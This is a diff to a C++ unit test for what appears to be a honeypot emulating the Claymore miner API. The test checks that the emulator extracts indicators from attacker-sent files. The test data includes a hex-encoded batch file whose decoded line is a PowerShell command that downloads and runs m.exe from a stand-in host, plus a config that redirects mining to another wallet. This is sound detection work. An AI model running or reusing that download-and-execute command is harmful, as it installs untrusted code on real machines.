@@ -2,6 +2,7 @@
 
 #include <catch2/catch.hpp>
 #include <string>
+#include <utility>
 #include <vector>
 
 #include "converse/emulation.hpp"
@@ -278,12 +279,56 @@ TEST_CASE("the Claymore API reports a rig and records control commands", "[emula
   CHECK(d["result"].Size() == 9);
   CHECK(x.turn.steps == step_bit(emulated_step::miner_status));
   CHECK(x.turn.consumed == 50);  // the object; the newline is taken with the next request
+  // A reboot.bat that downloads and runs a program (its hex as the remote manager sends it;
+  // its SHA-256 and size from sha256sum and wc -c).
   x = ask(plan, emulated_protocol::claymore,
-          R"({"id":0,"jsonrpc":"2.0","method":"miner_file","params":["reboot.bat","6578"]})");
+          R"({"id":0,"jsonrpc":"2.0","method":"miner_file","params":["reboot.bat",")"
+          "706f7765727368656c6c202d632022284e65772d4f626a656374204e65742e576562436c69656e7429"
+          "2e446f776e6c6f616446696c652827687474703a2f2f3139322e302e322e36362f6d2e657865272c27"
+          "6d2e6578652729220d0a6d2e6578650d0a"
+          R"("]})");
   CHECK(x.turn.steps == step_bit(emulated_step::miner_control));
-  REQUIRE(x.turn.indicator_count == 1);
-  CHECK(x.turn.indicators[0].kind == indicator_kind::miner_command);
-  CHECK(x.turn.indicators[0].value() == "miner_file reboot.bat");
+  std::vector<std::pair<indicator_kind, std::string>> got;
+  for (unsigned i = 0; i < x.turn.indicator_count; ++i) {
+    got.emplace_back(x.turn.indicators[i].kind, std::string(x.turn.indicators[i].value()));
+  }
+  const std::vector<std::pair<indicator_kind, std::string>> script = {
+      {indicator_kind::miner_command, "miner_file reboot.bat"},
+      {indicator_kind::file_sha256,
+       "503461c858f79d7fa13fc3296bab89fb3c5671535e17fdba64ec0151f639b990"},
+      {indicator_kind::file_name, "reboot.bat 99 bytes"},
+      {indicator_kind::shell_command,
+       R"c(powershell -c "(New-Object Net.WebClient).DownloadFile('http://192.0.2.66/m.exe','m.exe')")c"},
+      {indicator_kind::url, "http://192.0.2.66/m.exe"},
+      {indicator_kind::shell_command, "m.exe"}};
+  CHECK(got == script);
+  // A config.txt that sends the rig's mining to another wallet.
+  x = ask(plan, emulated_protocol::claymore,
+          R"({"id":0,"method":"miner_file","params":["config.txt",")"
+          "2d65706f6f6c206574682d6575312e6e616e6f706f6f6c2e6f72673a39393939202d6577616c2030"
+          "78414241424142414241424142414241424142414241424142414241424142414241424142414241"
+          "422e72696731202d6570737720780a"
+          R"("]})");
+  got.clear();
+  for (unsigned i = 0; i < x.turn.indicator_count; ++i) {
+    got.emplace_back(x.turn.indicators[i].kind, std::string(x.turn.indicators[i].value()));
+  }
+  const std::vector<std::pair<indicator_kind, std::string>> config = {
+      {indicator_kind::miner_command, "miner_file config.txt"},
+      {indicator_kind::file_sha256,
+       "083775ca2f00588f1ed159652cb04308cd37b41ebdf0d8a43fc3db3891212d72"},
+      {indicator_kind::file_name, "config.txt 95 bytes"},
+      {indicator_kind::eth_etherbase, "0xabababababababababababababababababababab"}};
+  CHECK(got == config);
+  // Content that is not hex (or of an odd length) is not read: the command alone.
+  for (const char* content : {"6g", "657"}) {
+    x = ask(plan, emulated_protocol::claymore,
+            std::string(R"({"id":0,"method":"miner_file","params":["reboot.bat",")") + content +
+                R"("]})");
+    CAPTURE(content);
+    CHECK(x.turn.steps == step_bit(emulated_step::miner_control));
+    CHECK(x.turn.indicator_count == 1);
+  }
   x = ask(plan, emulated_protocol::claymore, R"({"id":0,"method":"miner_get)");
   CHECK(x.turn.consumed == 0);
   CHECK_FALSE(x.turn.faulty);
